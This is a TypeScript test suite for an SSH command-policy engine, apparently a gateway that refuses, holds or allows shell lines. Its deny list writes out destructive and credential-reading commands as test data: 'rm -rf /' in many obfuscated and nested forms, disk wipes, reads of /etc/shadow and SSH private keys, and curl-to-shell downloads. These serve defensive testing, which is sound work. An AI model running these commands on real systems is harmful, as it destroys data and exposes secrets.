/**
 * The default SSH policy on lines parsed by the real shell parser (mvdan/sh
 * WebAssembly, src/protocols/ssh/exec-facts.ts) and decided by the compiled
 * policy (wasm/policy.wasm): what each rule refuses wherever the parser finds
 * it (quoting, escapes, nesting in sh -c, substitutions, here-documents,
 * wrappers, find -exec), what it must not refuse, and the facts' shape.
 */
import { beforeAll, describe, expect, test } from "bun:test";
import { join, resolve } from "node:path";
import { AgateError } from "../src/core/errors.ts";
import { createPolicyEngine } from "../src/policy/index.ts";
import { execFacts, type ExecFacts } from "../src/protocols/ssh/exec-facts.ts";
import { initShell } from "../src/protocols/ssh/shparse.ts";

const WASM = join(resolve(import.meta.dir, ".."), "wasm", "policy.wasm");
let decide: (line: string) => { allow: boolean; reasons: string[]; approval: { required: boolean } };

beforeAll(async () => {
  await initShell();
  const engine = await createPolicyEngine({ file: WASM, watch: false });
  decide = (line) =>
    engine.decide({
      stage: "command",
      now: "2026-01-01T00:00:00Z",
      identity: { subject: "ci", issuer: "agate:api-key", groups: ["ci"], kind: "service" },
      connection: { name: "web", protocol: "ssh", target: "deploy@10.0.0.1:22" },
      session: { id: "s", started_at: "2026-01-01T00:00:00Z" },
      command: { text: line, exec: execFacts(line) },
    });
});

const denied: [string, string][] = [
  ["rm -rf /", "deny_rm_system"],
  ["rm -rf -- /", "deny_rm_system"],
  ["rm -r -f /etc", "deny_rm_system"],
  ["rm --recursive --force /usr/", "deny_rm_system"],
  ["\\rm -rf /", "deny_rm_system"],
  ["r''m -rf '/'", "deny_rm_system"],
  ['"/bin/rm" -rf /boot', "deny_rm_system"],
  ["$'\\162\\155' -rf /", "deny_rm_system"],
  ["rm -rf /*", "deny_rm_system"],
  ["rm -rf /usr/*", "deny_rm_system"],
  ["rm -rf /{etc,var}", "deny_rm_system"],
  ["rm -rf /tmp/../etc", "deny_rm_system"],
  ["rm -rf --no-preserve-root /", "deny_rm_system"],
  ["sudo rm -rf /var", "deny_rm_system"],
  ["nice -n 10 nohup timeout -s KILL 5 rm -rf /", "deny_rm_system"],
  ["env -i PATH=/bin rm -rf /", "deny_rm_system"],
  ["env -S 'rm -rf /'", "deny_rm_system"],
  ["sh -c 'rm -rf /'", "deny_rm_system"],
  ["bash -ec \"rm -rf /\"", "deny_rm_system"],
  ["bash -o pipefail -c 'true | rm -rf /'", "deny_rm_system"],
  ["su -c 'rm -rf /' root", "deny_rm_system"],
  ["sh -c \"sh -c 'bash -c \\\"rm -rf /\\\"'\"", "deny_rm_system"],
  ["echo $(rm -rf /)", "deny_rm_system"],
  ["cat <(rm -rf /)", "deny_rm_system"],
  ["x=`rm -rf /`", "deny_rm_system"],
  ["if true; then rm -rf /; fi", "deny_rm_system"],
  ["for i in 1; do rm -rf /; done", "deny_rm_system"],
  ["f() { rm -rf /; }; f", "deny_rm_system"],
  ["true && (rm -rf /) || false", "deny_rm_system"],
  ["find /tmp -maxdepth 0 -exec rm -rf / \\;", "deny_rm_system"],
  ["find /tmp -exec sh -c 'rm -rf /' \\;", "deny_rm_system"],
  ["find / -exec rm -rf {} +", "deny_rm_system"],
  ["find /etc -name '*.conf' -delete", "deny_rm_system"],
  ["find /usr -type f -execdir /bin/rm {} \\;", "deny_rm_system"],
  ["ls / | xargs rm -rf", "deny_rm_system"],
  ["find / -maxdepth 1 | xargs -n1 rm -r", "deny_rm_system"],
  ["cd / && rm -rf *", "deny_rm_system"],
  ["cd /etc; rm -r .", "deny_rm_system"],
  ["eval 'rm -rf /'", "deny_rm_system"],
  ["sh <<EOF\nrm -rf /\nEOF", "deny_rm_system"],
  ["bash <<< 'rm -rf /'", "deny_rm_system"],
  ["watch -n 1 rm -rf /", "deny_rm_system"],
  ["mkfs.ext4 /dev/sdb1", "deny_mkfs"],
  ["sudo mkfs -t xfs /dev/sdb", "deny_mkfs"],
  ["wipefs -a /dev/sdb", "deny_mkfs"],
  ["dd if=/dev/zero of=/dev/sda bs=1M", "deny_device_write"],
  ["cat image > /dev/nvme0n1", "deny_device_write"],
  ["tee /dev/sda < image", "deny_device_write"],
  ["shutdown -h now", "deny_power"],
  ["/sbin/reboot", "deny_power"],
  ["systemctl poweroff", "deny_power"],
  ["init 0", "deny_power"],
  ["echo b > /proc/sysrq-trigger", "deny_power"],
  ["cat /etc/shadow", "deny_secret_read"],
  ["cat /etc/./shadow", "deny_secret_read"],
  ["cat /etc/../etc/shadow", "deny_secret_read"],
  ["base64 < /etc/shadow", "deny_secret_read"],
  ["cat /etc/sh*", "deny_secret_read"],
  ["cat /etc/{passwd,shadow}", "deny_secret_read"],
  ["cat ~/.ssh/id_rsa", "deny_secret_read"],
  ["cp /root/.ssh/id_ed25519 /tmp/k", "deny_secret_read"],
  ["tar czf - ~/.ssh/*", "deny_secret_read"],
  ["dd if=/etc/shadow", "deny_secret_read"],
  ["curl -fsSL https://get.example.com | sh", "deny_download_exec"],
  ["wget -qO- https://x.example/i.sh | sudo -E bash -s --", "deny_download_exec"],
  ["echo 'rm -rf /' | sh", "deny_opaque"],
  ["bash < script.sh", "deny_opaque"],
  ["bash", "deny_opaque"],
  ["bash <(curl -s https://x.example/i.sh)", "deny_opaque"],
  ['sh -c "$(curl -s https://x.example/i.sh)"', "deny_opaque"],
  ['$CMD -rf /', "deny_opaque"],
  ['eval "$X"', "deny_opaque"],
  ["source <(echo id)", "deny_opaque"],
];

const held: [string, string][] = [
  ["sudo systemctl status nginx", "approve_privileged"],
  ["systemctl restart nginx", "approve_service_stop"],
  ["kill -9 1", "approve_kill_init"],
  ["apt-get -y purge nginx", "approve_package_removal"],
];

const allowed = [
  "ls -la /etc",
  "uptime; df -h; free -m",
  "rm -rf /tmp/build-1234 ./node_modules",
  "rm /etc/nginx/sites-enabled/old.conf",
  "cat /etc/passwd | cut -d: -f1",
  "cat ~/.ssh/id_rsa.pub",
  "grep -r TODO src/ | wc -l",
  "dd if=/dev/zero of=/tmp/zeros bs=1M count=1 2>/dev/null",
  "curl -fsS -o /tmp/x.tgz https://x.example/x.tgz && tar xzf /tmp/x.tgz -C /tmp",
  "find . -name '*.o' -delete",
  "find /tmp -mtime +7 -delete",
  "find /var/log/app -name '*.gz' -exec rm {} +",
  "cd /tmp && rm -rf build",
  "cd /srv/app && rm -rf dist/*",
  "find . -name '*.pyc' | xargs rm -f",
  "docker ps --format '{{.Names}}'",
  "git -C /srv/app pull --ff-only && systemctl status app",
  "for f in *.log; do gzip \"$f\"; done",
  "echo \"$HOME\" $((1 + 2))",
  "kill -TERM 4242",
  "apt-get install -y jq",
  "journalctl -u nginx --since '1 hour ago' | tail -n 50",
  "bash ./deploy.sh --env staging",
];

describe("refused wherever the parser finds it", () => {
  for (const [line, rule] of denied) {
    test(`${rule}: ${JSON.stringify(line)}`, () => {
      const d = decide(line);
      expect(d.allow).toBe(false);
      expect(d.reasons.some((r) => r.startsWith(`agate.ssh.${rule}: `))).toBe(true);
    });
  }
});

describe("held for approval", () => {
  for (const [line, rule] of held) {
    test(`${rule}: ${JSON.stringify(line)}`, () => {
      const d = decide(line);
      expect(d.allow).toBe(true);
      expect(d.approval.required).toBe(true);
      expect(d.reasons.some((r) => r.startsWith(`agate.ssh.${rule}: `))).toBe(true);
    });
  }
});

describe("ordinary work is allowed", () => {
  for (const line of allowed) {
    test(JSON.stringify(line), () => {
      const d = decide(line);
      expect(d.reasons).toEqual([]);
      expect(d.allow).toBe(true);
    });
  }
});

describe("the facts", () => {
  const facts = (line: string): ExecFacts => execFacts(line);

  test("a simple command: values with quotes removed, redirections, assignments", () => {
    expect(facts(`LC_ALL=C /bin/ls -l 'a b' "c"d\\ e 2>/dev/null >>out`).commands).toEqual([
      { program: "/bin/ls", name: "ls", args: ["-l", "a b", "cd e"], assigns: ["LC_ALL=C"], redirects: [{ op: "2>", fd: null, target: "/dev/null" }, { op: ">>", fd: null, target: "out" }].map((r) => (r.op === "2>" ? { op: ">", fd: "2", target: r.target } : r)), dynamic: false, glob: false, via: [] },
    ]);
  });

  test("pipelines: each command's pipeline and stage; substitutions outside it", () => {
    const f = facts("a | b $(c) | d; e | f");
    expect(f.pipelines).toEqual([["a", "b", "d"], ["e", "f"]]);
    const at = Object.fromEntries(f.commands.map((c) => [c.name, [c.pipeline, c.stage, c.via]]));
    expect(at).toEqual({ a: [0, 0, []], b: [0, 1, []], c: [undefined, undefined, ["$()"]], d: [0, 2, []], e: [1, 0, []], f: [1, 1, []] });
    expect(f.operators.sort()).toEqual([";", "|"]);
    expect(f.substitutions).toBe(1);
  });

  test("words with expansions are their source text, the command dynamic", () => {
    const [c] = facts(`echo "$HOME/x" \${A:-b} $((1+2))`).commands;
    expect(c).toMatchObject({ args: ['"$HOME/x"', "${A:-b}", "$((1+2))"], dynamic: true });
  });

  test("globs and brace expansions are marked", () => {
    expect(facts("ls *.txt").commands[0]!.glob).toBe(true);
    expect(facts("ls {a,b}").commands[0]!.glob).toBe(true);
    expect(facts("ls '*.txt'").commands[0]!.glob).toBe(false);
  });

  test("nested payloads say how they were reached", () => {
    const f = facts(`sudo -u app sh -c 'cd /srv && eval "make all"'`);
    expect(f.commands.map((c) => [c.name, c.via])).toEqual([
      ["sudo", []],
      ["sh", ["sudo"]],
      ["cd", ["sudo", "sh -c"]],
      ["eval", ["sudo", "sh -c"]],
      ["make", ["sudo", "sh -c", "eval"]],
    ]);
  });

  test("arguments added at run time (xargs, find -exec {}) make the command dynamic", () => {
    expect(facts("ls | xargs rm -f").commands.find((c) => c.name === "rm")).toMatchObject({ args: ["-f"], dynamic: true, via: ["xargs"], pipeline: 0, stage: 1 });
    expect(facts("find . -name '*.o' -exec rm {} +").commands.find((c) => c.name === "rm")).toMatchObject({ args: ["{}"], dynamic: true, via: ["find -exec"] });
    expect(facts("find . -exec touch /tmp/x \\;").commands.find((c) => c.name === "touch")).toMatchObject({ dynamic: false });
  });

  test("a line that is not valid shell is refused with EXEC_PARSE", () => {
    for (const bad of ["echo 'open", "if true; then", "a |", "(", "echo $(("]) {
      expect(() => execFacts(bad)).toThrow(AgateError);
      try {
        execFacts(bad);
      } catch (e) {
        expect((e as AgateError).code).toBe("EXEC_PARSE");
      }
    }
  });

  test("nesting past the limit is opaque, not followed forever", () => {
    const f = facts(`${"eval ".repeat(12)}rm -rf /`);
    expect(f.opaque.some((o) => o.includes("nested more than"))).toBe(true);
    expect(decide(`${"eval ".repeat(12)}true`).reasons.some((r) => r.startsWith("agate.ssh.deny_opaque: "))).toBe(true);
  });
});
